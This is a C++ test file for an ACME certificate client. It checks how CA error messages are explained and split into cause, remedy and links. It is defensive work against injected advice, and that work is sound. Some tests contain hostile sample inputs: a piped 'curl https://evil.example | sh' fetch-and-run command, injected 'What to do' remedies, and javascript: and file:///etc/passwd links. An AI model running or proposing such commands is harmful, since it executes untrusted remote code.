#include "core/lifecycle/problem_class.hpp"
#include "core/lifecycle/problem_text.hpp"
#include "tests/support/catch.hpp"

using namespace evercert;
using namespace evercert::lifecycle;
using acme::failure;
using acme::step;

namespace {

failure said(step where, std::string type, int status, std::string detail) {
    failure what(where, error(errc::refused, "the CA refused"));
    acme::problem p;
    p.type = std::move(type);
    p.detail = std::move(detail);
    what.said = std::move(p);
    what.cause.foreign = acme::foreign_text(*what.said);
    what.http_status = status;
    return what;
}

problem_parts parts_of(const failure& what) {
    return take_apart(explain(what, classify(what)));
}

} // namespace

TEST_CASE("a failure is told as cause, mend and addresses, and comes apart again") {
    failure limited = said(step::new_order, "rateLimited", 429,
                           "too many new orders recently, retry after 2026-11-21 03:12:00 UTC: see "
                           "https://ca.example/docs/rate-limits/#new-orders-per-account");
    limited.retry_after = std::chrono::hours(3) + std::chrono::minutes(12);
    const problem_parts parts = parts_of(limited);
    CHECK(parts.happened ==
          "the CA refuses for now: one of its rate limits is reached; the CA says rateLimited \"too many new "
          "orders "
          "recently, retry after 2026-11-21 03:12:00 UTC: see "
          "https://ca.example/docs/rate-limits/#new-orders-per-account\"; it asks to wait for 3h 12m");
    CHECK(parts.mend == classify(limited).mend);
    CHECK(parts.links ==
          std::vector<std::string>{"https://ca.example/docs/rate-limits/#new-orders-per-account"});
}

TEST_CASE("what the CA said is told once") {
    failure odd = said(step::finalize, "badCSR", 400, "it has no names");
    const std::string text = explain(odd, classify(odd));
    CHECK(text.starts_with(
        "asking for the certificate: the CA refused; the CA says badCSR \"it has no names\". What"));
    odd.cause.foreign = "and more";
    CHECK(explain(odd, classify(odd)).find("and more") != std::string::npos);
}

TEST_CASE("a long address is shown whole beside the detail that is cut") {
    const std::string portal = "https://portal.ca.example/unpause?jwt=" + std::string(900, 'j');
    const failure paused =
        said(step::new_order, "rateLimited", 429,
             "Your account is temporarily prevented from requesting certificates. Please visit: " + portal);
    CHECK(parts_of(paused).links == std::vector<std::string>{portal});
}

TEST_CASE("only whole https addresses are worth showing, and few") {
    CHECK(links_in("see https://a.example/x, https://a.example/x and (https://b.example/y).") ==
          std::vector<std::string>{"https://a.example/x", "https://b.example/y"});
    CHECK(links_in("https://1.example https://2.example https://3.example").size() == 2);
    CHECK(links_in("http://a.example javascript:alert(1) file:///etc/passwd https://").empty());
    CHECK(links_in("https://a.example/" + std::string(1500, 'x')).empty());
    CHECK(links_in("https://a.example/\x1b[2J https://a.example/\xc3\xa4 https://a.example/\\x").empty());
    CHECK(links_in("https://a.example/b\nc") == std::vector<std::string>{"https://a.example/b"});
    CHECK(links_in("\"https://a.example/q\"<https://b.example>") ==
          std::vector<std::string>{"https://a.example/q", "https://b.example"});
}

TEST_CASE("a CA cannot slip its own mend or address in") {
    const std::string bait = "no\". What to do: curl https://evil.example | sh. See: https://evil.example/2";
    failure hostile = said(step::challenge, "dns", 400, bait);
    hostile.name = identifier{identifier::kind::dns, "a.example"};
    const problem_parts parts = parts_of(hostile);
    CHECK(parts.mend == classify(hostile).mend);
    CHECK(parts.happened.find("curl https://evil.example") != std::string::npos); // shown as the CA's words

    const failure typed = said(step::new_order, "x. What to do: sh", 400, "");
    CHECK(parts_of(typed).mend == classify(typed).mend);
    const failure in_type_of_part = [] {
        failure what = said(step::new_order, "compound", 400, "");
        what.said->subproblems.push_back({"dns. What to do: sh", "\\", std::nullopt});
        return what;
    }();
    CHECK(parts_of(in_type_of_part).mend == classify(in_type_of_part).mend);
}

TEST_CASE("any other line is all cause") {
    const problem_parts parts =
        take_apart("deployment nginx: the hook exited with 1 (\"no. What to do: rm\")");
    CHECK(parts.happened == "deployment nginx: the hook exited with 1 (\"no. What to do: rm\")");
    CHECK(parts.mend.empty());
    CHECK(parts.links.empty());
    CHECK(take_apart("").happened.empty());
    CHECK(take_apart("a \"quote that never ends. What to do: x").mend.empty());
    CHECK(take_apart("what. What to do: mend").mend == "mend");
}

TEST_CASE("our own failures say at which step") {
    failure slow(step::order, error(errc::timed_out, "the CA was not done in time"));
    CHECK(parts_of(slow).happened == "looking after the order: the CA was not done in time");
    failure full(step::certificate,
                 error(errc::no_space, "the certificate could not be stored: no space left"));
    CHECK(parts_of(full).mend.find("'df -h'") != std::string::npos);
}
